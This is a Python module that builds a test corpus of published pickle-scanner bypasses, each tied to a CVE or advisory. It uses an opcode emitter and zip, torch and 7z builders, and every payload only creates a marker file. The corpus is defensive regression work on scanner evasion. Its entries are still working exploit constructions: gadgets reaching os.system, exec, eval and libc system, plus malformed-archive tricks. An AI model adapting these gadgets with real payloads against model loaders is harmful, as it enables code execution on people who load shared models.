"""Published bypasses of pickle scanners (picklescan, fickling, modelscan) and of the loaders
they guard, rebuilt with a harmless payload: each file would create a marker file if loaded.

Every entry of :data:`BYPASSES` names its source (advisory, CVE, issue or write-up), says in
one line what the trick is, and builds the file -- a name with the extension the published
file used, and its bytes -- for a given marker path. Pickles are assembled here from
opcodes (a small emitter below, or literal opcode bytes): nothing is imported from the
gadget modules and nothing is ever unpickled in the test process. The payloads only create
the marker: ``open(marker, 'w')``, ``touch marker``, or the gadget's own file write.

``loader`` says how a victim loads the file (``pickle.loads``, ``torch.load``, zipfile and
pickle, ``numpy.load``, ``joblib.load``, ...) and ``not_real`` why the file cannot be shown to
run in this environment (a network-only gadget, a function that this Python, NumPy or
PyTorch no longer has, ...). ``tests/test_scan_bypasses.py`` runs every file whose
``not_real`` is empty in a child process with that loader, to show the corpus is not vacuous.

Where a published proof of concept passed a dummy ``self`` (``{}``) that would make the
method raise before it reaches ``exec``, the rebuilt file passes a real instance (made with
``NEWOBJ``/``BUILD`` or the class's own constructor) so that it does run.
"""

from __future__ import annotations

import gzip
import io
import lzma
import marshal
import shlex
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any, NamedTuple

__all__ = ["BYPASSES", "Bypass", "emit", "p4", "sevenzip"]


@dataclass(frozen=True)
class Bypass:
    source: str
    technique: str
    build: Callable[[Path], tuple[str, bytes]]
    #: how a victim loads the file: pickle, pickle-stream, torch, zip, numpy, npz, joblib, gzip, 7z
    loader: str = "pickle"
    #: why it cannot be shown to run here ("" when it can)
    not_real: str = ""
    #: the standard input the loading process gets, for gadgets that read it (given the marker)
    stdin: Callable[[Path], bytes] | None = None


# --------------------------------------------------------------------------- payloads


def _S(text: str) -> bytes:
    """A protocol-0 ``STRING`` opcode (quoted and escaped as the unpickler decodes it)."""
    return b"S" + repr(text).encode() + b"\n"


def _py(marker: Path) -> str:
    """Python source that creates the marker."""
    return f"open({str(marker)!r}, 'w').close()"


def _sh(marker: Path) -> str:
    """A shell command that creates the marker."""
    return f"touch {shlex.quote(str(marker))}"


# --------------------------------------------------------------------------- pickle emitter


class G(NamedTuple):
    """A global, written as ``STACK_GLOBAL`` (or ``GLOBAL`` with ``text=True``)."""

    module: str
    name: str
    text: bool = False


class Call(NamedTuple):
    """``func(*args)`` through ``REDUCE``."""

    func: Any
    args: tuple[Any, ...] = ()


class New(NamedTuple):
    """``cls.__new__(cls)`` through ``NEWOBJ``, then ``BUILD`` with ``state`` (unless None)."""

    cls: Any
    state: Any = None


class Build(NamedTuple):
    """``BUILD``: set ``state`` on ``obj`` (the unpickler's ``__setstate__`` or ``__dict__`` update)."""

    obj: Any
    state: Any


class Raw(NamedTuple):
    """Opcode bytes that push exactly one value."""

    data: bytes


def _s(text: str) -> bytes:
    b = text.encode()
    return b"\x8c" + bytes([len(b)]) + b if len(b) < 256 else b"X" + struct.pack("<I", len(b)) + b


def emit(x: Any) -> bytes:  # noqa: C901 - one case per kind of value
    """The opcodes (protocol 4) that push ``x``."""
    if isinstance(x, Raw):
        return x.data
    if isinstance(x, G):
        if x.text:
            return b"c" + x.module.encode() + b"\n" + x.name.encode() + b"\n"
        return _s(x.module) + _s(x.name) + b"\x93"
    if isinstance(x, Call):
        return emit(x.func) + emit(tuple(x.args)) + b"R"
    if isinstance(x, New):
        out = emit(x.cls) + b")\x81"
        return out + (emit(x.state) + b"b" if x.state is not None else b"")
    if isinstance(x, Build):
        return emit(x.obj) + emit(x.state) + b"b"
    if x is None:
        return b"N"
    if x is True:
        return b"\x88"
    if x is False:
        return b"\x89"
    if isinstance(x, int):
        if -(2**31) <= x < 2**31:
            return b"J" + struct.pack("<i", x)
        n = (x.bit_length() + 8) // 8
        return b"\x8a" + bytes([n]) + x.to_bytes(n, "little", signed=True)
    if isinstance(x, float):
        return b"G" + struct.pack(">d", x)
    if isinstance(x, str):
        return _s(x)
    if isinstance(x, bytes):
        return b"C" + bytes([len(x)]) + x if len(x) < 256 else b"B" + struct.pack("<I", len(x)) + x
    if isinstance(x, tuple):
        if not x:
            return b")"
        body = b"".join(emit(i) for i in x)
        return body + b"\x85\x86\x87"[len(x) - 1 : len(x)] if len(x) <= 3 else b"(" + body + b"t"
    if isinstance(x, list):
        return b"]" + (b"(" + b"".join(emit(i) for i in x) + b"e" if x else b"")
    if isinstance(x, dict):
        return b"}" + (b"(" + b"".join(emit(k) + emit(v) for k, v in x.items()) + b"u" if x else b"")
    raise TypeError(f"cannot emit {type(x).__name__}")


def p4(x: Any) -> bytes:
    """A whole protocol-4 pickle of ``x``."""
    return b"\x80\x04" + emit(x) + b"."


def _call(module: str, name: str, *args: Any) -> bytes:
    return p4(Call(G(module, name), args))


# --------------------------------------------------------------------------- containers


def _zip(members: dict[str, bytes]) -> bytearray:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return bytearray(buf.getvalue())


def _torch_zip(data_pkl: bytes, *, extra: dict[str, bytes] | None = None, prefix: str = "archive") -> bytearray:
    """The layout of a ``torch.save`` archive, with ``data_pkl`` as its pickle."""
    members = {f"{prefix}/data.pkl": data_pkl, f"{prefix}/byteorder": b"little", f"{prefix}/version": b"3\n"}
    members.update({f"{prefix}/{k}": v for k, v in (extra or {}).items()})
    return _zip(members)


def _central(data: bytearray, index: int = 0) -> int:
    """Offset of the ``index``-th central directory header."""
    at = -1
    for _ in range(index + 1):
        at = data.find(b"PK\x01\x02", at + 1)
    return at


def _npy(stream: bytes) -> bytes:
    """A ``.npy`` file (format 1.0) of a one-element object array whose pickle is ``stream``."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    total = 10 + len(header) + 1
    header += " " * ((64 - total % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin1") + stream


TORCH_MAGIC = 0x1950A86A20F9469CFC6C


def _legacy_tail() -> bytes:
    """What follows the magic number in torch's legacy (non-zip) format, for an empty dict."""
    sys_info = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    return b"".join(b"\x80\x02" + emit(x) + b"." for x in (1001, sys_info, {}, []))


def _7z_number(v: int) -> bytes:
    """7-Zip's variable-length NUMBER."""
    for n in range(8):
        if v < 1 << (7 * (n + 1)):
            first = ((0xFF << (8 - n)) & 0xFF) | (v >> (8 * n))
            return bytes([first]) + (v & ((1 << (8 * n)) - 1)).to_bytes(n, "little")
    return b"\xff" + v.to_bytes(8, "little")


def sevenzip(members: dict[str, bytes]) -> bytes:
    """A 7z archive (one LZMA2 solid folder) holding ``members``, written from the format
    description (7zFormat.txt): signature header, packed stream, plain header."""
    dict_size = 1 << 20
    raw = b"".join(members.values())
    packed = lzma.compress(raw, format=lzma.FORMAT_RAW, filters=[{"id": lzma.FILTER_LZMA2, "dict_size": dict_size}])
    n = _7z_number
    names = b"".join(name.encode("utf-16-le") + b"\x00\x00" for name in members)
    sizes = list(members.values())
    header = (
        b"\x01"  # Header
        + b"\x04"  # MainStreamsInfo
        + b"\x06" + n(0) + n(1) + b"\x09" + n(len(packed)) + b"\x00"  # PackInfo: pos, 1 stream, size
        + b"\x07"  # UnPackInfo
        + b"\x0b" + n(1) + b"\x00"  # Folder: one, not external
        + n(1) + b"\x21\x21" + n(1) + bytes([16])  # one coder with properties: LZMA2 (id 21), dict 1 MiB
        + b"\x0c" + n(len(raw))  # CodersUnPackSize
        + b"\x00"
        + b"\x08"  # SubStreamsInfo
        + b"\x0d" + n(len(members))  # NumUnPackStream
        + (b"\x09" + b"".join(n(len(d)) for d in sizes[:-1]) if len(members) > 1 else b"")
        + b"\x0a\x01" + b"".join(struct.pack("<I", zlib.crc32(d)) for d in sizes)  # CRCs, all defined
        + b"\x00"
        + b"\x00"  # end of MainStreamsInfo
        + b"\x05" + n(len(members))  # FilesInfo
        + b"\x11" + n(len(names) + 1) + b"\x00" + names  # names, not external
        + b"\x00"
        + b"\x00"  # end of Header
    )
    start = struct.pack("<QQI", len(packed), len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + packed + header


# --------------------------------------------------------------------------- the corpus

BYPASSES: dict[str, Bypass] = {}


def _add(name: str, source: str, technique: str, loader: str = "pickle", not_real: str = "",
         stdin: Callable[[Path], bytes] | None = None):
    def deco(fn: Callable[[Path], tuple[str, bytes]]) -> Callable[[Path], tuple[str, bytes]]:
        assert name not in BYPASSES, name
        BYPASSES[name] = Bypass(source, technique, fn, loader, not_real, stdin)
        return fn

    return deco


def _simple(name: str, source: str, technique: str, module: str, func: str, args: Callable[[Path], tuple],
            file: str = "model.pkl", not_real: str = "", stdin: Callable[[Path], bytes] | None = None) -> None:
    """An entry whose pickle is just ``module.func(*args(marker))``."""
    _add(name, source, technique, not_real=not_real, stdin=stdin)(lambda m: (file, _call(module, func, *args(m))))


_NO_TORCH_BOTTLENECK = "torch.utils.bottleneck is gone from this PyTorch"
_PY312 = "needs Python 3.12+ (this interpreter lacks the function)"

# ---- picklescan: Sonatype's four (CVE-2025-1716, -1889, -1944, -1945), Feb-Mar 2025

_simple(
    "CVE-2025-1716-pip.main",
    "CVE-2025-1716 / GHSA-655q-fx9r-782v (Sonatype, 'Bypassing Picklescan')",
    "pip was not an unsafe global: pip.main([...]) installs (here: logs to) whatever the pickle says",
    "pip", "main",
    lambda m: (["--log", str(m), "--no-input", "--disable-pip-version-check", "cache", "dir"],),
)
_simple(
    "GHSA-655q-pydoc.pipepager",
    "GHSA-655q-fx9r-782v (picklescan 'fails to detect some unsafe globals', malicious18)",
    "pydoc.pipepager(text, cmd) runs cmd through os.popen",
    "pydoc", "pipepager", lambda m: ("", _sh(m)),
)
_simple(
    "GHSA-655q-venv.create",
    "GHSA-655q-fx9r-782v (picklescan malicious20)",
    "venv.create writes a whole environment (the published file injects the prompt of its activate script)",
    "venv", "create", lambda m: (str(m), False, False, True),
)
_simple(
    "GHSA-655q-torch._inductor.compile_file",
    "GHSA-655q-fx9r-782v (picklescan malicious17)",
    "torch._inductor.codecache.compile_file(..., cmd) runs a compiler command line",
    "torch._inductor.codecache", "compile_file", lambda m: ("", "", ["sh", "-c", _sh(m)]),
    not_real="compile_file is gone from this PyTorch",
)


@_add(
    "GHSA-655q-partial-torch.load-pickle_file",
    "GHSA-655q-fx9r-782v (picklescan malicious19)",
    "functools.partial(torch.load, f, pickle_file='config.json', weights_only=False)(): torch.load of a "
    "nested archive whose pickle hides in a member not named data.pkl",
)
def _partial_torch_load(m: Path) -> tuple[str, bytes]:
    inner = _torch_zip(p4({"weights": []}), extra={"config.json": p4(Call(G("builtins", "exec"), (_py(m),)))})
    part = Build(
        Call(G("functools", "partial"), (G("torch.serialization", "load"),)),
        (G("torch.serialization", "load"), (Call(G("_io", "BytesIO"), (bytes(inner),)),),
         {"pickle_file": "config.json", "weights_only": False}, None),
    )
    return "model.pkl", p4(Call(part, ()))


@_add(
    "CVE-2025-1889-member-extension",
    "CVE-2025-1889 / GHSA-769v-p64c-89pr (Sonatype; picklescan malicious1_wrong_ext.zip)",
    "the pickle inside the zip is named data.txt: scanners that pick members by extension skip it",
    loader="zip",
)
def _wrong_ext(m: Path) -> tuple[str, bytes]:
    return "model.zip", bytes(_zip({"data.txt": p4(Call(G("builtins", "eval"), (_py(m),)))}))


@_add(
    "CVE-2025-1944-zip-name-mismatch",
    "CVE-2025-1944 / GHSA-7q5r-7gvp-wc82 (Sonatype; picklescan malicious1_central_directory.zip)",
    "local header names 'archive/datap.kl', central directory 'archive/data.pkl': zipfile refuses, torch loads",
    loader="torch",
)
def _name_mismatch(m: Path) -> tuple[str, bytes]:
    data = bytes(_torch_zip(p4(Call(G("builtins", "eval"), (_py(m),)))))
    return "model.pt", data.replace(b"archive/data.pkl", b"archive/datap.kl", 1)


def _flagged(bit: int, where: str) -> Callable[[Path], tuple[str, bytes]]:
    def build(m: Path) -> tuple[str, bytes]:
        data = _torch_zip(p4(Call(G("builtins", "eval"), (_py(m),))))
        if where in ("both", "local"):
            data[6] |= bit  # general purpose flags of the first local header
        if where in ("both", "central"):
            data[_central(data) + 8] |= bit
        return "model.pt", bytes(data)

    return build


for _bit, _what in ((0x1, "encrypted"), (0x20, "compressed patched data"), (0x40, "strong encryption")):
    _add(
        f"CVE-2025-1945-zip-flag-0x{_bit:x}",
        f"CVE-2025-1945 / GHSA-w8jq-xcqf-f792 (Sonatype; picklescan malicious1_0x{_bit:x}.zip)",
        f"data.pkl flagged '{_what}' (bit 0x{_bit:x}) in both zip headers: zipfile refuses the member, the "
        "PyTorch of the advisory read it",
        loader="torch",
        not_real="this PyTorch refuses members flagged in the central directory (older ones read them)",
    )(_flagged(_bit, "both"))
_add(
    "CVE-2025-1945-zip-flag-local-only",
    "CVE-2025-1945 / GHSA-w8jq-xcqf-f792 (variant: the bit in the local header only)",
    "data.pkl flagged 'encrypted' in its local header only: torch and zipfile both read it, a scanner "
    "that trusts the local flags skips it",
    loader="torch",
)(_flagged(0x1, "local"))

# ---- picklescan: JFrog's three (CVE-2025-10155/10156/10157), Dec 2025


def _asyncio_start(m: Path) -> bytes:
    return _call("asyncio.unix_events", "_UnixSubprocessTransport._start", {}, _sh(m), True, None, None, None, 0)


_add(
    "CVE-2025-10155-pickle-as-.bin",
    "CVE-2025-10155 / GHSA-jgw4-cr84-mqxg (JFrog, 'Unveiling 3 zero-day vulnerabilities in PickleScan'; "
    "picklescan GHSA-jgw4-cr84-mqxg.bin)",
    "a plain pickle named pytorch_model.bin: the scanner takes it for a PyTorch file, fails, reports "
    "nothing; torch.load reads it as a legacy file and runs it",
    loader="torch",
)(lambda m: ("pytorch_model.bin", _asyncio_start(m)))


@_add(
    "CVE-2025-10155-protocol0-as-.pt",
    "CVE-2025-10155 (JFrog); protocol 0/1 variant (promptfoo/modelaudit PR #605)",
    "a protocol-0 pickle (no PROTO magic) named model.pt, calling posix.system",
    loader="torch",
)
def _proto0_pt(m: Path) -> tuple[str, bytes]:
    return "model.pt", b"cposix\nsystem\n(" + _S(_sh(m)) + b"tR."


@_add(
    "CVE-2025-10156-zip-bad-crc",
    "CVE-2025-10156 / GHSA-mjqp-26hc-grxg (JFrog; picklescan malicious1_crc.zip)",
    "data.pkl's CRC-32 is wrong in both headers: zipfile raises 'Bad CRC-32', torch does not check it",
    loader="torch",
)
def _bad_crc(m: Path) -> tuple[str, bytes]:
    data = _torch_zip(p4(Call(G("builtins", "eval"), (_py(m),))))
    data[14:18] = b"\x00\x00\x00\x00"
    cd = _central(data)
    data[cd + 16 : cd + 20] = b"\x00\x00\x00\x00"
    return "model.pt", bytes(data)


_add(
    "CVE-2025-10157-asyncio-submodule",
    "CVE-2025-10157 / GHSA-f7qq-56ww-84cr (JFrog); GHSA-q77w-mwjj-7mqx (picklescan)",
    "asyncio.unix_events._UnixSubprocessTransport._start: a submodule of a blocked module was only "
    "'suspicious'; _start({}, cmd, shell=True, ...) spawns the shell before failing on its dummy self",
)(lambda m: ("model.pkl", _asyncio_start(m)))

# ---- picklescan: parser confusion and broken streams


@_add(
    "GHSA-9gvj-pp9x-gcfr-STRING-into-STACK_GLOBAL",
    "GHSA-9gvj-pp9x-gcfr (picklescan 'pickle parsing logic flaw', malicious23, Aug 2025)",
    "STACK_GLOBAL fed by protocol-0 STRING opcodes in a stream without PROTO",
)
def _string_stack_global(m: Path) -> tuple[str, bytes]:
    return "model.pkl", _S("os") + _S("system") + b"\x93" + _S(_sh(m)) + b"\x85R."


@_add(
    "picklescan-keyerror-memo",
    "picklescan keyerror-exploit.pkl (memo KeyError evasion, 2025)",
    "os.system runs first; a later STACK_GLOBAL reads a memo key that was never set, crashing parsers",
)
def _keyerror(m: Path) -> tuple[str, bytes]:
    return "model.pkl", (
        b"\x80\x04cos\nsystem\nV" + _sh(m).encode() + b"\n\x85R0" + _s("os") + b"\x94h\x03h\x00\x93K\x42."
    )


@_add(
    "picklescan-type-confusion-memo",
    "picklescan type-confusion-exploit.pkl (2025)",
    "os.system runs first; then STACK_GLOBAL of an int and a str from the memo confuses parsers",
)
def _type_confusion(m: Path) -> tuple[str, bytes]:
    return "model.pkl", (
        b"\x80\x04cos\nsystem\nV" + _sh(m).encode() + b"\n\x85R0J*\x00\x00\x00\x94" + _s("os")
        + b"\x94h\x00h\x01\x93K\x42."
    )


@_add(
    "picklescan-issue22-memo-PUT",
    "mmaitre314/picklescan#22 (ImaginaryCTF 'Safe Pickle', 2023)",
    "strings stored with PUT/GET so the STACK_GLOBAL operands a naive scanner pairs up are torch.LongStorage",
)
def _ctf_memo(m: Path) -> tuple[str, bytes]:
    return "model.pkl", (
        b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(V"
        + _sh(m).encode() + b"\ntR."
    )


@_add(
    "picklescan-trailing-bytes",
    "picklescan malicious-invalid-bytes.pkl",
    "junk after STOP makes a scanner that parses the whole file fail; pickle.load stops at STOP",
)
def _trailing(m: Path) -> tuple[str, bytes]:
    return "model.pkl", b"\x80\x04cos\nsystem\nV" + _sh(m).encode() + b"\n\x85R.\n\n\t\t\xff\xfe"


@_add(
    "picklescan-broken-after-exec",
    "picklescan broken_model.pkl (2025)",
    "builtins.exec runs, then the stream breaks (a truncated BINUNICODE, no STOP)",
)
def _broken(m: Path) -> tuple[str, bytes]:
    return "model.pkl", b"cbuiltins\nexec\n(V" + _py(m).encode() + b"\ntRX\xff\xff\xff\x7fshort"


@_add(
    "picklescan-concatenated-second-pickle",
    "picklescan malicious6.pkl (several pickles in one file)",
    "a benign pickle, then a second one with the payload (loaders that call load() again run it)",
    loader="pickle-stream",
)
def _concatenated(m: Path) -> tuple[str, bytes]:
    return "model.pkl", p4(["a", "b", "c"]) + p4(Call(G("builtins", "exec"), (_py(m),)))


@_add(
    "picklescan-pytorch-magic-bypass",
    "picklescan pytorch_magic_bypass.pt",
    "legacy torch file whose magic-number pickle runs eval and then returns the magic number, so the "
    "load goes on",
    loader="torch",
)
def _magic(m: Path) -> tuple[str, bytes]:
    first = b"\x80\x02" + emit(Call(G("builtins", "eval"), (_py(m),))) + b"0" + emit(TORCH_MAGIC) + b"."
    return "model.pt", first + _legacy_tail()


# ---- picklescan: unsafe callables missing from the deny list (2025)

_simple("GHSA-4r9r-ch6f-vxmx-bottleneck-run_cprofile", "GHSA-4r9r-ch6f-vxmx (picklescan)",
        "torch.utils.bottleneck.__main__.run_cprofile(code, globs) execs code",
        "torch.utils.bottleneck.__main__", "run_cprofile", lambda m: (_py(m), {}), not_real=_NO_TORCH_BOTTLENECK)
_simple("GHSA-4whj-rm5r-c2v8-bottleneck-run_autograd_prof", "GHSA-4whj-rm5r-c2v8 (picklescan)",
        "torch.utils.bottleneck.__main__.run_autograd_prof(code, globs) execs code",
        "torch.utils.bottleneck.__main__", "run_autograd_prof", lambda m: (_py(m), {}),
        not_real=_NO_TORCH_BOTTLENECK)
_simple("GHSA-86cj-95qr-2p4f-dynamo-GuardBuilder.get", "GHSA-86cj-95qr-2p4f (picklescan)",
        "torch._dynamo.guards.GuardBuilder.get(self, expr) evaluated its argument",
        "torch._dynamo.guards", "GuardBuilder.get", lambda m: ({}, _py(m)),
        not_real="this PyTorch's GuardBuilder.get no longer evals a string")
_simple("GHSA-f4x7-rfwp-v3xw-ShapeEnv.evaluate_guards_expression", "GHSA-f4x7-rfwp-v3xw (picklescan)",
        "torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression(self, code, args) evals code",
        "torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", lambda m: ({}, _py(m), []))
_simple("GHSA-f745-w6jp-hpxx-collect_env.run",
        "GHSA-f745-w6jp-hpxx (picklescan); protectai/modelscan#338 §1",
        "torch.utils.collect_env.run(cmd) runs a shell command",
        "torch.utils.collect_env", "run", lambda m: (_sh(m),))


@_add("GHSA-jhph-76pp-mggw-collect_env.run_and_read_all", "GHSA-jhph-76pp-mggw (picklescan)",
      "torch.utils.collect_env.run_and_read_all(run, cmd): the runner arrives as an argument")
def _run_and_read_all(m: Path) -> tuple[str, bytes]:
    return "model.pkl", _call("torch.utils.collect_env", "run_and_read_all", G("torch.utils.collect_env", "run"), _sh(m))


def _inner(m: Path) -> bytes:
    return p4(Call(G("builtins", "exec"), (_py(m),)))


_add("GHSA-h3qp-7fh3-f8h4-datapipes-decoder", "GHSA-h3qp-7fh3-f8h4 (picklescan)",
     "torch.utils.data.datapipes.utils.decoder.basichandlers('pickle', data) unpickles nested bytes")(
    lambda m: ("model.pkl", _call("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pickle", _inner(m))))
_simple("GHSA-vr7h-p6mm-wpmh-jit-execWrapper", "GHSA-vr7h-p6mm-wpmh (picklescan)",
        "torch.jit.unsupported_tensor_ops.execWrapper(code, glob, loc) is exec",
        "torch.jit.unsupported_tensor_ops", "execWrapper", lambda m: (_py(m), {}, {}))
_add("GHSA-vv6j-3g6g-2pvj-ConfigModule.load_config", "GHSA-vv6j-3g6g-2pvj (picklescan)",
     "torch.utils._config_module.ConfigModule.load_config(self, bytes) unpickles nested bytes")(
    lambda m: ("model.pkl", _call("torch.utils._config_module", "ConfigModule.load_config", {}, _inner(m))))

for _key, _ghsa, _meth, _extra in (
    ("GHSA-5qwp-399c-mjwf-trace.Trace.run", "GHSA-5qwp-399c-mjwf", "run", ()),
    ("GHSA-g344-hcph-8vgg-trace.Trace.runctx", "GHSA-g344-hcph-8vgg", "runctx", ({}, {})),
):
    _add(_key, f"{_ghsa} (picklescan)", f"trace.Trace.{_meth}(Trace(), code, ...) execs code under the tracer")(
        lambda m, _meth=_meth, _extra=_extra: (
            "model.pkl", p4(Call(G("trace", f"Trace.{_meth}"), (Call(G("trace", "Trace"), ()), _py(m), *_extra)))))
for _key, _ghsa, _meth, _extra in (
    ("GHSA-x696-vm39-cp64-profile.Profile.run", "GHSA-x696-vm39-cp64", "run", ()),
    ("GHSA-6vqj-c2q5-j97w-profile.Profile.runctx", "GHSA-6vqj-c2q5-j97w", "runctx", ({}, {})),
):
    _add(_key, f"{_ghsa} (picklescan)", f"profile.Profile.{_meth}(Profile(), code, ...) execs code")(
        lambda m, _meth=_meth, _extra=_extra: (
            "model.pkl", p4(Call(G("profile", f"Profile.{_meth}"), (Call(G("profile", "Profile"), ()), _py(m), *_extra)))))

_add("GHSA-f54q-57x4-jg88-lib2to3-Grammar.loads", "GHSA-f54q-57x4-jg88 (picklescan)",
     "lib2to3.pgen2.grammar.Grammar.loads(Grammar(), bytes) unpickles nested bytes")(
    lambda m: ("model.pkl", _call("lib2to3.pgen2.grammar", "Grammar.loads",
                                  Call(G("lib2to3.pgen2.grammar", "Grammar"), ()), _inner(m))))
_add("GHSA-p9w7-82w4-7q8m-lib2to3-make_label", "GHSA-p9w7-82w4-7q8m (picklescan)",
     "lib2to3.pgen2.pgen.ParserGenerator.make_label(self, grammar, label) evals a quoted label")(
    lambda m: ("model.pkl", _call("lib2to3.pgen2.pgen", "ParserGenerator.make_label", None,
                                  Call(G("lib2to3.pgen2.grammar", "Grammar"), ()), f'""+str({_py(m)})')))
_simple("GHSA-3vg9-h568-4w9m-idlelib-ObjectTreeItem.SetText", "GHSA-3vg9-h568-4w9m (picklescan)",
        "idlelib.debugobj.ObjectTreeItem.SetText(self, text) evals text",
        "idlelib.debugobj", "ObjectTreeItem.SetText", lambda m: ({}, _py(m)))
_simple("GHSA-6w4w-5w54-rjvr-idlelib-AutoComplete.get_entity", "GHSA-6w4w-5w54-rjvr (picklescan)",
        "idlelib.autocomplete.AutoComplete.get_entity(self, name) evals name",
        "idlelib.autocomplete", "AutoComplete.get_entity", lambda m: ({}, _py(m)))
_add("GHSA-7cq8-mj8x-j263-idlelib-AutoComplete.fetch_completions", "GHSA-7cq8-mj8x-j263 (picklescan)",
     "idlelib.autocomplete.AutoComplete.fetch_completions(AutoComplete(), expr, ATTRS) evals expr")(
    lambda m: ("model.pkl", _call("idlelib.autocomplete", "AutoComplete.fetch_completions",
                                  Call(G("idlelib.autocomplete", "AutoComplete"), ()), _py(m), 0)))  # ATTRS
_add("GHSA-cj3c-v495-4xqh-code.InteractiveInterpreter.runcode", "GHSA-cj3c-v495-4xqh (picklescan)",
     "code.InteractiveInterpreter.runcode(InteractiveInterpreter(), code) is exec")(
    lambda m: ("model.pkl", _call("code", "InteractiveInterpreter.runcode",
                                  Call(G("code", "InteractiveInterpreter"), ()), _py(m))))
_simple("GHSA-8r4j-24qv-fmq9-idlelib-Calltip.fetch_tip", "GHSA-8r4j-24qv-fmq9 (picklescan)",
        "idlelib.calltip.Calltip.fetch_tip(self, expr) evals expr",
        "idlelib.calltip", "Calltip.fetch_tip", lambda m: ({}, _py(m)))
_simple("GHSA-9xph-j2h6-g47v-idlelib-calltip.get_entity", "GHSA-9xph-j2h6-g47v (picklescan)",
        "idlelib.calltip.get_entity(expr) evals expr", "idlelib.calltip", "get_entity", lambda m: (_py(m),))
_add("GHSA-m869-42cg-3xwr-idlelib-Executive.runcode", "GHSA-m869-42cg-3xwr (picklescan)",
     "idlelib.run.Executive.runcode(self, code) is exec (self rebuilt with NEWOBJ/BUILD)")(
    lambda m: ("model.pkl", _call("idlelib.run", "Executive.runcode",
                                  New(G("idlelib.run", "Executive"), {"locals": {}}), _py(m))))


def _shell_interp() -> New:
    console = New(G("types", "SimpleNamespace"), {"executing": False, "beginexecuting": G("builtins", "dict")})
    return New(G("idlelib.pyshell", "ModifiedInterpreter"),
               {"tkconsole": console, "rpcclt": None, "debugger": None, "locals": {}})


_add("GHSA-j343-8v2j-ff7w-idlelib-ModifiedInterpreter.runcommand", "GHSA-j343-8v2j-ff7w (picklescan)",
     "idlelib.pyshell.ModifiedInterpreter.runcommand(self, code) is exec")(
    lambda m: ("model.pkl", _call("idlelib.pyshell", "ModifiedInterpreter.runcommand", _shell_interp(), _py(m))))
_add("GHSA-3gf5-cxq9-w223-idlelib-ModifiedInterpreter.runcode", "GHSA-3gf5-cxq9-w223 (picklescan)",
     "idlelib.pyshell.ModifiedInterpreter.runcode(self, code) is exec")(
    lambda m: ("model.pkl", _call("idlelib.pyshell", "ModifiedInterpreter.runcode", _shell_interp(), _py(m))))
_simple("GHSA-fqq6-7vqf-w3fg-doctest.debug_script", "GHSA-fqq6-7vqf-w3fg (picklescan)",
        "doctest.debug_script(src, pm=True) execs src", "doctest", "debug_script", lambda m: (_py(m), True))
_simple("GHSA-9w88-8rmg-7g2p-cProfile.runctx", "GHSA-9w88-8rmg-7g2p (picklescan)",
        "cProfile.runctx(code, None, None) execs code", "cProfile", "runctx", lambda m: (_py(m), None, None))
_simple("GHSA-49gj-c84q-6qm9-cProfile.run",
        "GHSA-49gj-c84q-6qm9 (picklescan); GHSA-p523-jq9w-64x9 / CVE-2026-22607 (fickling)",
        "cProfile.run(code) execs code", "cProfile", "run", lambda m: (_py(m),))
_simple("GHSA-m273-6v24-x4m4-distutils.write_file", "GHSA-m273-6v24-x4m4 (picklescan)",
        "distutils.file_util.write_file(path, lines) writes any file",
        "distutils.file_util", "write_file", lambda m: (str(m), []))


@_add("GHSA-4675-36f9-wf6r-ctypes.CDLL",
      "GHSA-4675-36f9-wf6r (picklescan); GHSA-q5qq-mvfm-j35x / CVE-2026-22609 (fickling)",
      "getattr(ctypes.CDLL(None), 'system')(cmd): libc's system() through the FFI")
def _ctypes(m: Path) -> tuple[str, bytes]:
    libc_system = Call(G("builtins", "getattr"), (Call(G("ctypes", "CDLL"), (None,)), "system"))
    return "model.pkl", p4(Call(libc_system, (_sh(m).encode(),)))


@_add("GHSA-84r2-jw7c-4r5q-pydoc.locate+methodcaller", "GHSA-84r2-jw7c-4r5q (picklescan)",
      "operator.methodcaller('system', cmd)(pydoc.locate('os')): the module arrives by name at run time")
def _locate_methodcaller(m: Path) -> tuple[str, bytes]:
    caller = Call(G("operator", "methodcaller"), ("system", _sh(m)))
    return "model.pkl", p4(Call(caller, (Call(G("pydoc", "locate"), ("os",)),)))


@_add("GHSA-955r-x9j8-7rhh-_operator",
      "GHSA-955r-x9j8-7rhh (picklescan; '_operator' getters, listed in trailofbits/fickling#210)",
      "the C module's name: _operator.methodcaller('system', cmd)(pydoc.locate('os')), no 'operator.' global")
def _c_operator(m: Path) -> tuple[str, bytes]:
    caller = Call(G("_operator", "methodcaller"), ("system", _sh(m)))
    return "model.pkl", p4(Call(caller, (Call(G("pydoc", "locate"), ("os",)),)))


_simple("GHSA-vqmv-47xg-9wpr-pty.spawn", "GHSA-vqmv-47xg-9wpr (picklescan)",
        "pty.spawn(argv) runs a program", "pty", "spawn", lambda m: (["/bin/sh", "-c", _sh(m)],))
_simple("GHSA-r8g5-cgf2-4m4m-numpy.f2py.getlincoef", "GHSA-r8g5-cgf2-4m4m (picklescan)",
        "numpy.f2py.crackfortran.getlincoef(expr, xset) evals expr",
        "numpy.f2py.crackfortran", "getlincoef", lambda m: (_py(m), []))
_simple("GHSA-xp4f-hrf8-rxw7-ensurepip._run_pip", "GHSA-xp4f-hrf8-rxw7 (picklescan)",
        "ensurepip._run_pip(args) pastes args into the source of a python -c child",
        "ensurepip", "_run_pip", lambda m: (_py(m),))
_simple("picklescan-numpy.testing.runstring", "picklescan malicious22 (2025)",
        "numpy.testing._private.utils.runstring(code, dict) is exec",
        "numpy.testing._private.utils", "runstring", lambda m: (_py(m), {}))
_simple("picklescan-timeit.timeit", "picklescan malicious21 (2025)",
        "timeit.timeit(stmt, setup) compiles and runs setup", "timeit", "timeit", lambda m: ("", _py(m)))
